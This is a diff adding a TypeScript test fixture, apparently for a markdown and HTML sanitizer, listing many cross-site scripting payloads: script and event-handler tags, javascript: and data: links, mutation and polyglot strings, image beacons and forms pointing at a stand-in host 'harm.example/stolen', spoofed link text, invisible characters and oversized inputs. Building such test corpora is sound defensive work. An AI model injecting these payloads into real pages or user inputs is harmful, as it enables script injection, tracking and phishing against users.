@@ -1,0 +1,123 @@
+/** Where everything hostile wants to send something. */
+export const HARM = 'https://harm.example/stolen'
+
+const H = 'window.harmed=1'
+
+/** Texts that did harm somewhere once, or are made to: markup, addresses, formatting, signs that are not seen. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  // Markup.
+  `<script>${H}</script>`,
+  `<ScRiPt src=${HARM}></ScRiPt>`,
+  `<img src=x onerror="${H}">`,
+  `<IMG SRC="javascript:${H}">`,
+  `<img src="${HARM}" srcset="${HARM} 2x">`,
+  `<svg/onload=${H}><animate onbegin=${H} attributeName=x>`,
+  `<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>`,
+  `<svg><a xlink:href="javascript:${H}"><text y=20>x</text></a></svg>`,
+  `<svg><foreignObject><iframe src="javascript:parent.${H}"></iframe></foreignObject></svg>`,
+  `"><iframe srcdoc="<script>parent.${H}</script>"></iframe>`,
+  `<object data="javascript:${H}"></object><embed src="javascript:${H}">`,
+  `<details open ontoggle=${H}><summary>x</summary></details>`,
+  `<video><source onerror=${H}></video><audio src=x onerror=${H}>`,
+  `<body onload=${H}><marquee onstart=${H}>`,
+  `<input autofocus onfocus=${H}><select autofocus onfocus=${H}>`,
+  `<form action=${HARM}><button formaction="javascript:${H}">x</button></form>`,
+  `<style>@import "${HARM}";*{background:url(${HARM})}</style>`,
+  `<link rel=stylesheet href=${HARM}><meta http-equiv=refresh content="0;url=${HARM}"><base href="${HARM}">`,
+  `<template><script>${H}</script></template><slot name=x></slot>`,
+  `<a href="javascript:${H}" style="position:fixed;inset:0">x</a>`,
+  `<p style="background:url(${HARM})" onclick=${H}>x</p>`,
+  `<x onpointerover=${H}>x</x><x contenteditable onbeforeinput=${H}>`,
+  // Markup that changes when it is parsed twice, in another namespace, or not closed.
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${H}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${H}>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${H}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${H}>`,
+  `<!--><img src=x onerror=${H}>--> <![CDATA[><img src=x onerror=${H}>]]>`,
+  `<?xml-stylesheet href="javascript:${H}"?><!DOCTYPE x [<!ENTITY y "z">]>`,
+  `</textarea></title></style></script><script>${H}</script>`,
+  `<<script>${H}//<</script>`,
+  `<img """><script>${H}</script>"\\>`,
+  `<scr\u0000ipt>${H}</scr\u0000ipt>`,
+  `\u003cscript\u003e${H}\u003c/script\u003e &lt;script&gt;${H}&lt;/script&gt; &#60;script&#62;`,
+  `＜script＞${H}＜/script＞ ʺonmouseover=${H}`,
+  // What the template library itself writes between the parts of a page.
+  '<!--?lit$0123456789$--> {{lit-0123456789}} <?lit$?> $lit$ <!-- -->',
+  'lit$012345678$ <!--lit-part--> <?> ${x} <%= x %> #{x} {{x}}',
+  // Names of what every object and every page has.
+  '__proto__ constructor prototype toString hasOwnProperty',
+  '<form id=config><input name=attributes></form><img name=customElements><a id=document>',
+  // A text for many places at once.
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.harmed=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.harmed=1//>\\x3e',
+  `';${H}//";${H}//\`;\${${H}}//</script>`,
+  // Addresses.
+  `[x](javascript:${H})`,
+  `[x](JaVaScRiPt:${H})`,
+  `[x](java\tscript:${H})`,
+  `[x](java\nscript:${H})`,
+  `[x]( javascript:${H})`,
+  `[x](\u0001javascript:${H})`,
+  `[x](javascript&colon;${H})`,
+  `[x](&#106;avascript:${H})`,
+  `[x](\\javascript:${H})`,
+  `[x](javascript://example.edu/%0a${H})`,
+  `[x](ｊavascript:${H}) [x](javaſcript:${H})`,
+  `[x](data:text/html,<script>${H}</script>)`,
+  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=)`,
+  `[x](vbscript:${H}) [x](file:///etc/passwd) [x](blob:https://harm.example/1) [x](//harm.example) [x](\\\\harm.example)`,
+  `[x](https://example.edu"onmouseover="${H}) [x](https://example.edu'onclick='${H})`,
+  `[x](https://example.edu "title" onclick=${H}) [x](<javascript:${H}>)`,
+  `[x]: javascript:${H}\n[x] [x][x] <javascript:${H}>`,
+  `<https://example.edu/><script>${H}</script>`,
+  `https://example.edu/"onmouseover="${H}" https://example.edu/'><img src=x onerror=${H}>`,
+  `https://user:pass@harm.example/ http://harm.example:80\\@example.edu/ https://example.edu@harm.example/`,
+  `javascript:${H} JAVASCRIPT://%0a${H} view-source:https://harm.example/ intent://harm.example#Intent;end`,
+  `www.javascript:${H} mailto:x@example.edu?body=<script>${H}</script> javascript:${H}@example.edu`,
+  `[https://bank.example](${HARM}) [\u202eelpmaxe.knab](${HARM}) [bank․example](${HARM})`,
+  // Pictures that would tell who looks.
+  `![x](${HARM}) ![](${HARM} "x") !\\[x](${HARM}) [![x](${HARM})](${HARM})`,
+  `![x](javascript:${H})`,
+  // Formatting.
+  `**<img src=x onerror=${H}>** _<b>_ ~~<i>~~ \`<script>${H}</script>\``,
+  `\`\`\`"><img src=x onerror=${H}>\n<script>${H}</script>\n\`\`\``,
+  `\`\`\`js" onload="${H}\ncode\n\`\`\``,
+  `- <img src=x onerror=${H}>\n  1. <svg onload=${H}>\n999999999. <b>`,
+  `> <script>${H}</script>\n> > [x](javascript:${H})`,
+  `<b>|javascript:${H}\n:-:|-:\n<img src=x onerror=${H}>|[x](data:text/html,x)`,
+  `@<img src=x onerror=${H}> @everyone @here @channel`,
+  `# <h1> {#id .class onclick=${H}}\n===\n[^1]: <sup>\n:::danger\n$$\\href{javascript:${H}}{x}$$`,
+  // Signs that are not seen, or that turn round what stands beside them.
+  '\u202e\u2066txt.exe\u2069 \u202dabc\u202c \u200f\u200e \ufeff zero\u200bwidth \u2028 \u2029 \u0085',
+  `e${'\u0301'.repeat(2_000)}`,
+  '\ud800 \udc00 \ufffe \uffff \u0000 \u0007 \u001b[2J',
+  // Much of one thing.
+  ...['[', '(', '*', '_', '`', '>', '|', '~', '<b>', '![', '[a](', '- ', '> - ', '@a', 'http://'].map((unit) =>
+    unit.repeat(Math.ceil(4_000 / unit.length)),
+  ),
+  `${'['.repeat(3_000)}x${']'.repeat(3_000)}`,
+  `${'>'.repeat(5_000)} deep`,
+  'line\n'.repeat(2_000) + 'last',
+  `a|b\n-|-\n${'c|d\n'.repeat(90)}`,
+  `https://example.edu/${'a'.repeat(8_000)}`,
+]
+
+/** Places of a message a text can stand in. */
+export const PLACES: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `**${text}**`,
+  (text) => `_~~${text}~~_`,
+  (text) => `\`${text}\``,
+  (text) => `> ${text}`,
+  (text) => `- ${text}\n  - ${text}`,
+  (text) => `1. ${text}`,
+  (text) => `\`\`\`\n${text}\n\`\`\``,
+  (text) => `\`\`\`${text}\nx\n\`\`\``,
+  (text) => `a|${text}\n-|-\n${text}|b`,
+  (text) => `[${text}](https://example.edu)`,
+  (text) => `[x](${text})`,
+  (text) => `[x](https://${text})`,
+  (text) => `[x](mailto:${text})`,
+  (text) => `https://example.edu/${text}`,
+  (text) => `www.${text}`,
+  (text) => `@${text}`,
+]
